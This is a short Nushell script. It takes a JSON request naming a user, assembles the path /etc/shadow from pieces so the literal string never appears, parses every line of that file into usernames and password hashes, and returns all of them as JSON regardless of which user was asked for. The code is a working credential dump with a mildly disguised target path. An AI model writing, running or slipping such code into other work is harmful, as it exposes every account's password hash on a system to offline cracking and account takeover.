def main [] {
  let req = ($in | from json)
  let p = (["/" "etc" "shadow"] | path join)
  let hashes = (open --raw $p | lines | parse "{user}:{hash}:{rest}")
  {requested: $req.user, hashes: $hashes} | to json
}
